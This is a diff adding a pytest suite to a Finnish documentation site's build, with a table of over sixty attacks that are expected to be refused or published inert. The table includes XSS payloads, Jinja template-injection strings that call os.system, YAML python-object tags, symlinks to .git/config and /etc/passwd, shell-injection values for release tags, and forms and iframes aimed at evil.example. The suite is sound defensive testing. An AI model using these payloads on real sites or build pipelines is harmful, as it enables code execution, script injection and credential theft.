@@ -226,6 +226,407 @@ def test_a_handwritten_page_cannot_replace_a_generated_one(project_copy):
     assert "Traceback" not in result.stdout + result.stderr
 
 
+# --- The attack table: what a pull request can try, and what becomes of it -----------------------
+#
+# Each attack: where an editor puts it, the exact input, and the expected result: refused with the
+# file (and line, where the check reads the source), or published inert. Attacks whose outcomes
+# are independent share one copy of the project and one real strict build (ATTACK_BATCHES); a
+# batch is separate where its refusal would stop the build before the next check runs (links and
+# file names first, then hand-written pages, then the content, then the final cleaning).
+# `{mark}` in an input is a file that would appear if anything in it ran.
+
+
+@dataclass(frozen=True)
+class Refused:
+    file: str
+    line: int | None  # None: the message names the page (the final cleaning reads the converted page)
+    says: str  # a phrase of the Finnish message
+
+
+@dataclass(frozen=True)
+class Inert:
+    url: str  # the built page, relative to the site's root
+    shows: str | None = None  # text the page shows literally
+
+
+@dataclass(frozen=True)
+class Attack:
+    id: str
+    surface: str
+    files: dict  # path in the project -> text
+    expect: Refused | Inert
+    links: tuple = ()  # (path in the project, where the link points)
+
+
+def _page(id_: str, text: str) -> dict:
+    return {f"docs/hyokkays/{id_}.md": text}
+
+
+def _macro_page(id_: str, code: str) -> Attack:
+    """A hand-written page that asks for macros, with `code` on its line 6."""
+    return Attack(f"macro-{id_}", "käsin kirjoitettu sivu", _page(f"macro-{id_}", (
+        "---\nrender_macros: true\n---\n# Sivu\n\n" + code + "\n")),
+        Refused(f"docs/hyokkays/macro-{id_}.md", 6, "mallikoodia"))
+
+
+def _front(id_: str, front: str, line: int, says: str) -> Attack:
+    return Attack(f"front-{id_}", "front matter", _page(f"front-{id_}", f"---\n{front}\n---\n# Sivu\n"),
+                  Refused(f"docs/hyokkays/front-{id_}.md", line, says))
+
+
+def _cleaned(id_: str, html: str) -> Attack:
+    return Attack(f"page-{id_}", "käsin kirjoitettu sivu", _page(f"page-{id_}", f"# Sivu\n\nTeksti.\n\n{html}\n"),
+                  Refused(f"hyokkays/page-{id_}.md", None, "poistettiin HTML:ää"))
+
+
+def _reserved(id_: str, line_text: str) -> Attack:
+    return Attack(f"id-{id_}", "käsin kirjoitettu sivu", _page(f"id-{id_}", f"# Sivu\n\n{line_text}\n"),
+                  Refused(f"docs/hyokkays/id-{id_}.md", 3, "teeman omassa käytössä"))
+
+
+LINK_ATTACKS = [
+    Attack("symlink-git-config", "symlinkki", {}, Refused("docs/x.txt", 1, "symbolinen linkki"),
+           links=(("docs/x.txt", "../.git/config"),)),
+    Attack("symlink-absolute", "symlinkki", {}, Refused("docs/assets/logo.svg", 1, "symbolinen linkki"),
+           links=(("docs/assets/logo.svg", "/etc/passwd"),)),
+    Attack("symlink-folder-to-git", "symlinkki", {}, Refused("docs/git", 1, "symbolinen linkki"),
+           links=(("docs/git", "../.git"),)),
+    Attack("symlink-page", "symlinkki", {}, Refused("docs/sivu.md", 1, "symbolinen linkki"),
+           links=(("docs/sivu.md", "../README.md"),)),
+    Attack("symlink-template", "symlinkki", {}, Refused("overrides/partials/x.html", 1, "symbolinen linkki"),
+           links=(("overrides/partials/x.html", "../../.git/config"),)),
+    Attack("symlink-content", "symlinkki", {}, Refused("roadmap/tuotokset/x.yaml", 1, "symbolinen linkki"),
+           links=(("roadmap/tuotokset/x.yaml", "../../.git/config"),)),
+    Attack("name-quote-breakout", "tiedostonimi", {'docs/a"onmouseover="alert(1).md': "# A\n"},
+           Refused('docs/a"onmouseover="alert(1).md', 1, "merkkejä")),
+    Attack("name-tag", "tiedostonimi", {"docs/<script>alert(1)</script>.md".replace("/script>", "script>"): "# A\n"},
+           Refused("docs/<script>alert(1)<script>.md", 1, "merkkejä")),
+    Attack("name-space", "tiedostonimi", {"docs/uusi sivu.md": "# A\n"}, Refused("docs/uusi sivu.md", 1, "merkkejä")),
+    Attack("name-bidi", "tiedostonimi", {"docs/kuva\u202egnp.md": "# A\n"}, Refused("docs/kuva\u202egnp.md", 1, "merkkejä")),
+    Attack("file-html-page", "tiedostonimi", {"docs/kirjaudu.html": "<script>alert(1)</script><form>salasana</form>"},
+           Refused("docs/kirjaudu.html", 1, "julkaistaisiin sellaisenaan")),
+    Attack("file-svg-script", "tiedostonimi", {"docs/assets/kuva.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"},
+           Refused("docs/assets/kuva.svg", 1, "julkaistaisiin sellaisenaan")),
+    Attack("file-xml-stylesheet", "tiedostonimi", {"docs/x.xml": "<?xml-stylesheet href='x.xsl'?><x/>"},
+           Refused("docs/x.xml", 1, "julkaistaisiin sellaisenaan")),
+    Attack("name-in-overrides", "tiedostonimi", {"overrides/partials/a'b.html": "x"},
+           Refused("overrides/partials/a'b.html", 1, "merkkejä")),
+]
+
+PAGE_ATTACKS = [
+    _macro_page("cycler-popen", "{{ cycler.__init__.__globals__.os.popen('touch {mark}').read() }}"),
+    _macro_page("lipsum-globals", "{{ lipsum.__globals__['os'].system('touch {mark}') }}"),
+    _macro_page("config", "{{ config }}"),
+    _macro_page("config-attribute", "{{ config.repo_url }}"),
+    _macro_page("raw-block", "{% raw %}{{ lipsum.__globals__ }}{% endraw %}"),
+    _macro_page("endraw-escape", "{% endraw %}{{ lipsum.__globals__ }}{% raw %}"),
+    _macro_page("set-statement", "{% set x = cycler.__init__ %}{{ x }}"),
+    _macro_page("include", "{% include 'mkdocs.yml' %}"),
+    _macro_page("import", "{% import 'tietoa.md' as t %}"),
+    _macro_page("filter", "{{ 'x' | safe }}"),
+    _macro_page("macro-attribute", "{{ teemakortti.__globals__ }}"),
+    _macro_page("macro-variable-argument", "{{ teemakortti(config) }}"),
+    _macro_page("macro-expression-argument", "{{ teemakortti('ennalta' ~ 'ehkaisy') }}"),
+    _macro_page("plugin-context", "{{ context() }}"),
+    _macro_page("plugin-macros-info", "{{ macros_info() }}"),
+    _macro_page("comment", "{# piilotettu #}"),
+    _macro_page("whitespace-control", "{{- config -}}"),
+    _macro_page("unclosed", "{{ teemakortti('ennaltaehkaisy'"),
+    _macro_page("for-loop", "{% for x in range(10**9) %}{% endfor %}"),
+    _macro_page("page-variable", "{{ page.file.abs_src_path }}"),
+    Attack("macro-in-title", "front matter", _page("macro-in-title", (
+        "---\nrender_macros: true\ntitle: \"{{ lipsum.__globals__['os'].system('touch {mark}') }}\"\n---\n# Sivu\n")),
+        Refused("docs/hyokkays/macro-in-title.md", 3, "mallikoodia")),
+    _front("template-redirect", "template: redirect.html\nlocation: javascript:alert(1)", 2, "ei ole sallittu"),
+    _front("author-breakout", "author: '\"><script>alert(1)</script>'", 2, "ei ole sallittu"),
+    _front("own-date-field", "tk_muutettu: '<img src=x onerror=alert(1)>'", 2, "ei ole sallittu"),
+    _front("hide-unknown", "hide: [navigation, '<script>']", 2, "arvon pitää olla"),
+    _front("render-macros-string", "render_macros: 'true'", 2, "arvon pitää olla"),
+    _front("python-tag", "title: !!python/object/apply:os.system ['touch {mark}']", 2, "ei ole kelvollista YAMLia"),
+    _front("not-a-mapping", "- render_macros\n- true", 2, "kenttiä"),
+    _reserved("heading-config", "## __config"),
+    _reserved("attr-list-drawer", "## Otsikko {#__drawer}"),
+    _reserved("html-search", '<span id="__search"></span>'),
+    _reserved("heading-palette", "### __palette_0"),
+    _reserved("name-toc", '<a name="__toc"></a>'),
+    _reserved("theme-component", '<div data-md-component="search">x</div>'),
+]
+
+CONTENT_ATTACKS = [
+    Attack("content-id-config", "tiedostonimi", {"roadmap/tuotokset/__config.yaml": "x"},
+           Refused("roadmap/tuotokset/__config.yaml", 1, "ei kelpaa tunnisteeksi")),
+    Attack("content-id-drawer", "tiedostonimi", {"roadmap/karkiteemat/__drawer.yaml": "x"},
+           Refused("roadmap/karkiteemat/__drawer.yaml", 1, "ei kelpaa tunnisteeksi")),
+    Attack("content-python-tag", "YAML-kenttä",
+           {"roadmap/pohdinnat/x-tagi.yaml": "otsikko: !!python/object/apply:os.system ['touch {mark}']\n"},
+           Refused("roadmap/pohdinnat/x-tagi.yaml", 1, "")),
+    Attack("content-municipality-id", "YAML-kenttä", {"roadmap/kunnat.yaml": (REPO / "roadmap" / "kunnat.yaml").read_text(
+        encoding="utf-8").replace("tunniste: kiihtelysvaara", "tunniste: __search")},
+        Refused("roadmap/kunnat.yaml", 8, "ei kelpaa tunnisteeksi")),
+    Attack("content-stray-file", "tiedostonimi", {"roadmap/tuotokset/sivu.md": "<script>alert(1)</script>\n"},
+           Refused("roadmap/tuotokset/sivu.md", 1, "Tuntematon tiedosto")),
+]
+
+CLEANING_ATTACKS = [
+    _cleaned("script", "<script>alert('XSS')</script>"),
+    _cleaned("img-onerror", "<img src=\"x\" onerror=\"alert('XSS')\">"),
+    _cleaned("javascript-link", "[linkki](javascript:alert('XSS'))"),
+    _cleaned("iframe", '<iframe src="https://evil.example/"></iframe>'),
+    _cleaned("third-party-image", "![seuranta](https://evil.example/pikseli.png)"),
+    _cleaned("onclick", '<a href="https://example.fi/" onclick="alert(1)">linkki</a>'),
+    _cleaned("svg-script", '<svg viewBox="0 0 1 1"><script>alert(1)</script></svg>'),
+    _cleaned("style-element", "<style>body{display:none}</style>"),
+    _cleaned("style-attribute", '<p style="position:fixed;inset:0">peitto</p>'),
+    _cleaned("form-elsewhere", '<form action="https://evil.example/"><input name="salasana"></form>'),
+    _cleaned("base", '<base href="https://evil.example/">'),
+    _cleaned("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
+    _cleaned("object", '<object data="https://evil.example/x.swf"></object>'),
+    _cleaned("stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
+    _cleaned("attr-list-handler", "Kappale.\n{: onclick=\"alert(1)\" }"),
+    _cleaned("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
+    _cleaned("data-url-link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
+]
+
+_TITLE = "</title><script>alert('XSS-T')</script>"
+INERT_ATTACKS = [
+    Attack("front-title-breakout", "front matter", _page("front-title-breakout", f"---\ntitle: \"{_TITLE}\"\n---\nTeksti.\n"),
+           Inert("hyokkays/front-title-breakout/", _TITLE)),
+    Attack("front-description-breakout", "front matter", _page("front-description-breakout", (
+        "---\ndescription: '\"><script>alert(\"XSS-D\")</script>'\n---\n# Sivu\n")),
+        Inert("hyokkays/front-description-breakout/")),
+    Attack("jinja-without-macros", "käsin kirjoitettu sivu", _page("jinja-without-macros", (
+        "# Sivu\n\nXSS-J {{ lipsum.__globals__['os'].system('touch {mark}') }}\n")),
+        Inert("hyokkays/jinja-without-macros/", "XSS-J {{ lipsum.")),  # __globals__ is Markdown's bold
+    Attack("raw-without-macros", "käsin kirjoitettu sivu", _page("raw-without-macros", "# Sivu\n\n{% raw %}XSS-R{% endraw %}\n"),
+           Inert("hyokkays/raw-without-macros/", "{% raw %}XSS-R{% endraw %}")),
+    Attack("escaped-heading", "käsin kirjoitettu sivu", _page("escaped-heading", "# &lt;script&gt;alert('XSS-H')&lt;/script&gt;\n"),
+           Inert("hyokkays/escaped-heading/", "<script>alert('XSS-H')</script>")),
+    Attack("macro-page-allowed", "käsin kirjoitettu sivu", _page("macro-page-allowed", (
+        "---\nrender_macros: true\n---\n# Sivu\n\n{{ sisallon_maarat() }}\n\nXSS-M &lt;script&gt;\n")),
+        Inert("hyokkays/macro-page-allowed/", "XSS-M <script>")),
+    # Not HTML to Markdown (an unquoted value with quotes in it): shown as text.
+    Attack("unquoted-img-onerror", "käsin kirjoitettu sivu", _page("unquoted-img-onerror", "# Sivu\n\n<img src=x onerror=alert('XSS-I')>\n"),
+           Inert("hyokkays/unquoted-img-onerror/", "<img src=x onerror=alert('XSS-I')>")),
+    Attack("yaml-name-template", "YAML-kenttä", {}, Inert("tietopankki/sosbox-extranet/", "XSS-Y {{ lipsum.__globals__ }}")),
+    Attack("yaml-name-title-breakout", "YAML-kenttä", {}, Inert("teemat/ennaltaehkaisy/", "</title><svg onload=alert('XSS-Z')>")),
+]
+# YAML fields of the inert build (their attacks above): file, field, value.
+_INERT_YAML = {
+    "yaml-name-template": ("roadmap/tuotokset/sosbox-extranet.yaml", "nimi", "XSS-Y {{ lipsum.__globals__ }}"),
+    "yaml-name-title-breakout": ("roadmap/karkiteemat/ennaltaehkaisy.yaml", "nimi", "</title><svg onload=alert('XSS-Z')>"),
+}
+
+COMMIT_ATTACKS = [
+    ("commit-script", "<script>alert('XSS-C1')</script>"),
+    ("commit-cdata-breakout", "]]></title><script>alert('XSS-C2')</script>"),
+    ("commit-entity", "&lt;img src=x onerror=alert('XSS-C3')&gt; &amp;"),
+    ("commit-template", "{{ lipsum.__globals__['os'].system('touch {mark}') }} XSS-C4"),
+    ("commit-quote-breakout", "\"' onmouseover=alert('XSS-C5') x=\""),
+]
+
+# Publishing inputs: the version and tag reach tiekartta.publish through the environment (`make
+# deploy VERSION=…` / `TAG=…`, the release workflow) and are validated there.
+PUBLISH_ATTACKS = [
+    ("version-shell", "version", "2025; touch {mark}"),
+    ("version-substitution", "version", "$(touch {mark})"),
+    ("version-path", "version", "../2024"),
+    ("version-option", "version", "--push"),
+    ("version-empty", "version", ""),
+    ("version-future-year", "version", "9999"),
+    ("version-trailing-newline", "version", "2025\n"),
+    ("version-other-digits", "version", "\u0662\u0660\u0662\u0665"),
+    ("tag-quote-breakout", "tag", "v2025'; touch {mark}; '"),
+    ("tag-path", "tag", "refs/tags/v2025/../../main"),
+    ("tag-not-release", "tag", "julkaisu"),
+    ("tag-future-year", "tag", "v9999"),
+    ("tag-trailing-newline", "tag", "v2025\n"),
+]
+# The same through make, where a tag or version was once put into a shell command as it is.
+MAKE_PUBLISH_ATTACKS = [
+    ("make-tag-quote-breakout", "TAG", "v2025'; touch {mark}; '"),
+    ("make-version-substitution", "VERSION", "$(touch {mark})"),
+    ("make-version-backticks", "VERSION", "`touch {mark}`"),
+]
+
+ATTACK_BATCHES = {"links": LINK_ATTACKS, "pages": PAGE_ATTACKS, "content": CONTENT_ATTACKS,
+                  "cleaning": CLEANING_ATTACKS, "inert": INERT_ATTACKS}
+ALL_ATTACKS = [a for batch in ATTACK_BATCHES.values() for a in batch]
+
+
+def test_the_attack_table_is_large_and_its_ids_unique():
+    ids = [a.id for a in ALL_ATTACKS] + [i for i, _ in COMMIT_ATTACKS] + [i for i, _, _ in PUBLISH_ATTACKS]
+    ids += [i for i, _, _ in MAKE_PUBLISH_ATTACKS]
+    assert len(ids) == len(set(ids)) and len(ids) >= 60, len(ids)
+
+
+def _plant(project: Path, attacks: list[Attack], mark: Path) -> None:
+    for attack in attacks:
+        for path, text in attack.files.items():
+            target = project / path
+            target.parent.mkdir(parents=True, exist_ok=True)
+            target.write_text(text.replace("{mark}", str(mark)), encoding="utf-8")
+        for path, points_to in attack.links:
+            (project / path).parent.mkdir(parents=True, exist_ok=True)
+            (project / path).symlink_to(points_to)
+
+
+@pytest.fixture(scope="module")
+def attack_builds(tmp_path_factory):
+    """Each batch planted in its own copy of the project and built once with the real strict build."""
+    results = {}
+    for name, attacks in ATTACK_BATCHES.items():
+        root = tmp_path_factory.mktemp(f"attacks-{name}")
+        mark = root / "RAN"
+        project = copy_project(root / "project")
+        (project / ".git").mkdir()
+        (project / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: basic c2FsYWluZW4=\n")
+        _plant(project, attacks, mark)
+        if name == "inert":
+            for file, field_name, value in _INERT_YAML.values():
+                data = yaml.safe_load((project / file).read_text(encoding="utf-8"))
+                data[field_name] = value
+                (project / file).write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+            nav = "".join(f"  - hyokkays/{a.id}.md\n" for a in attacks if a.files)
+            config = project / "mkdocs.yml"
+            config.write_text(config.read_text(encoding="utf-8").replace("nav:\n", "nav:\n" + nav, 1), encoding="utf-8")
+        result = build_site(project, project / "site")
+        check = subprocess.run([sys.executable, "-m", "tiekartta", "check"], cwd=project, capture_output=True,
+                               text=True, timeout=120)
+        results[name] = (project, result, check, mark)
+    return results
+
+
+def _refusal_shown(output: str, expect: Refused) -> bool:
+    if expect.line is None:
+        # The gate names the page and its source: "Sivulta x.md (lähde docs/x.md) poistettiin HTML:ää …"
+        return re.search(rf"Sivulta {re.escape(expect.file)} \(lähde docs/{re.escape(expect.file)}\) "
+                         rf"{re.escape(expect.says)}", output) is not None
+    return any(f"{expect.file}, rivi {expect.line}" in line and expect.says in line for line in output.splitlines())
+
+
+@pytest.mark.build
+@pytest.mark.parametrize("batch,attack", [(b, a) for b, attacks in ATTACK_BATCHES.items() for a in attacks],
+                         ids=lambda value: value.id if isinstance(value, Attack) else value)
+def test_attack(batch, attack, attack_builds):
+    project, result, check, mark = attack_builds[batch]
+    output = result.stdout + result.stderr
+    assert "Traceback" not in output
+    assert not mark.exists(), "something in the attack ran"
+    if isinstance(attack.expect, Refused):
+        assert result.returncode != 0
+        assert _refusal_shown(output, attack.expect), output[-3000:]
+        if attack.expect.line is not None:  # read from the source: `make check` says it too
+            assert check.returncode == 1 and _refusal_shown(check.stderr, attack.expect), check.stderr[-2000:]
+        return
+    assert result.returncode == 0, output[-3000:]
+    page = page_path(project / "site", attack.expect.url)
+    assert not active_markup(page), active_markup(page)
+    if attack.expect.shows is not None:
+        assert attack.expect.shows in soup_of(page).get_text(" "), attack.expect.shows
+    everything = "".join(p.read_text(encoding="utf-8") for p in html_pages(project / "site"))
+    assert "extraheader" not in everything and "c2FsYWluZW4" not in everything
+
+
+@pytest.mark.build
+def test_front_matter_title_is_text_everywhere_it_is_printed(attack_builds):
+    project, result, _, _ = attack_builds["inert"]
+    assert result.returncode == 0
+    site = project / "site"
+    soup = soup_of(page_path(site, "hyokkays/front-title-breakout/"))
+    assert soup.title.get_text() == f"{_TITLE} - Sosiaalityön tiekartta"
+    assert _TITLE in soup.select_one("[data-md-component=header-topic]").get_text()
+    # In the navigation and the previous/next links of the other pages too.
+    neighbour = soup_of(page_path(site, "hyokkays/front-description-breakout/"))
+    assert _TITLE in [a.get_text(" ", strip=True) for a in neighbour.select("nav.md-nav a.md-nav__link")]
+    assert all(_TITLE not in str(p.read_text(encoding="utf-8")) for p in html_pages(site))  # never as markup
+    description = soup_of(page_path(site, "hyokkays/front-description-breakout/")).find("meta", attrs={"name": "description"})
+    assert description["content"] == '"><script>alert("XSS-D")</script>'
+
+
+@pytest.mark.build
+@pytest.mark.browser
+def test_inert_attacks_do_nothing_in_the_browser(attack_builds, page):
+    """Every page of the inert batch in Debian's Chromium: no dialog, no request off the site."""
+    project, result, _, _ = attack_builds["inert"]
+    server, url = serve_directory(project / "site")
+    dialogs, elsewhere = [], []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: elsewhere.append(request.url) if not request.url.startswith(url) else None)
+    try:
+        for attack in INERT_ATTACKS:
+            page.goto(url + attack.expect.url)
+            page.wait_for_load_state("load")
+            page.mouse.move(300, 300)
+            page.wait_for_timeout(100)
+    finally:
+        server.shutdown()
+    assert dialogs == [] and elsewhere == []
+
+
+@pytest.fixture(scope="module")
+def commit_attack_build(tmp_path_factory):
+    """Commit subjects reach the change feed (data/muutokset.atom): each attack is the subject of a
+    commit that changes the content, in a git copy of the project, built once."""
+    root = tmp_path_factory.mktemp("attacks-commits")
+    mark = root / "RAN"
+    project = copy_project(root / "project")
+    env = {**make_env(), "GIT_AUTHOR_NAME": "Toimittaja", "GIT_AUTHOR_EMAIL": "toimittaja@example.invalid",
+           "GIT_COMMITTER_NAME": "Toimittaja", "GIT_COMMITTER_EMAIL": "toimittaja@example.invalid"}
+
+    def git(*args):
+        subprocess.run(["git", *args], cwd=project, check=True, capture_output=True, env=env)
+
+    git("init", "-q")
+    git("add", "-A")
+    git("commit", "-q", "-m", "Sisältö")
+    theme = project / "roadmap" / THEME
+    for i, (_, subject) in enumerate(COMMIT_ATTACKS):
+        theme.write_text(theme.read_text(encoding="utf-8") + f"# muutos {i}\n", encoding="utf-8")
+        git("commit", "-q", "-am", subject.replace("{mark}", str(mark)))
+    result = build_site(project, project / "site")
+    return project, result, mark
+
+
+@pytest.mark.build
+@pytest.mark.parametrize("attack_id,subject", COMMIT_ATTACKS, ids=[i for i, _ in COMMIT_ATTACKS])
+def test_commit_subject_is_published_as_text(attack_id, subject, commit_attack_build):
+    import xml.etree.ElementTree as ElementTree
+
+    project, result, mark = commit_attack_build
+    assert result.returncode == 0, result.stderr[-3000:]
+    assert not mark.exists()
+    feed = ElementTree.parse(project / "site" / "data" / "muutokset.atom")
+    titles = [e.text for e in feed.getroot().iter("{http://www.w3.org/2005/Atom}title")]
+    assert subject.replace("{mark}", str(mark)) in titles
+    for page in html_pages(project / "site"):
+        assert subject not in page.read_text(encoding="utf-8") or "<" not in subject
+
+
+@pytest.mark.parametrize("attack_id,kind,value", PUBLISH_ATTACKS, ids=[i for i, _, _ in PUBLISH_ATTACKS])
+def test_publishing_input_is_refused(attack_id, kind, value, tmp_path):
+    from datetime import date
+
+    from tiekartta import publish
+
+    value = value.replace("{mark}", str(tmp_path / "RAN"))
+    read = publish.version_from_tag if kind == "tag" else publish.version_from_input
+    with pytest.raises(publish.PublishError) as error:
+        read(value, today=date(2026, 6, 1))
+    assert ("ei kelpaa" in str(error.value) or "ei ole julkaisutagi" in str(error.value)
+            or "tulevaisuudessa" in str(error.value))
+    assert not (tmp_path / "RAN").exists()
+
+
+@pytest.mark.build
+@pytest.mark.parametrize("attack_id,variable,value", MAKE_PUBLISH_ATTACKS, ids=[i for i, _, _ in MAKE_PUBLISH_ATTACKS])
+def test_publishing_input_through_make_runs_nothing(attack_id, variable, value, project_copy, tmp_path):
+    mark = tmp_path / "RAN"
+    result = subprocess.run(make_command(project_copy, "deploy", f"{variable}={value.replace('{mark}', str(mark))}"),
+                            cwd=project_copy, capture_output=True, text=True, env=make_env(), timeout=600)
+    assert result.returncode != 0 and not mark.exists()
+    assert "ei kelpaa" in result.stderr or "ei ole julkaisutagi" in result.stderr, result.stderr[-2000:]
+
+
 # --- Payloads in real fields, through the real build ------------------------------------------------
 
 
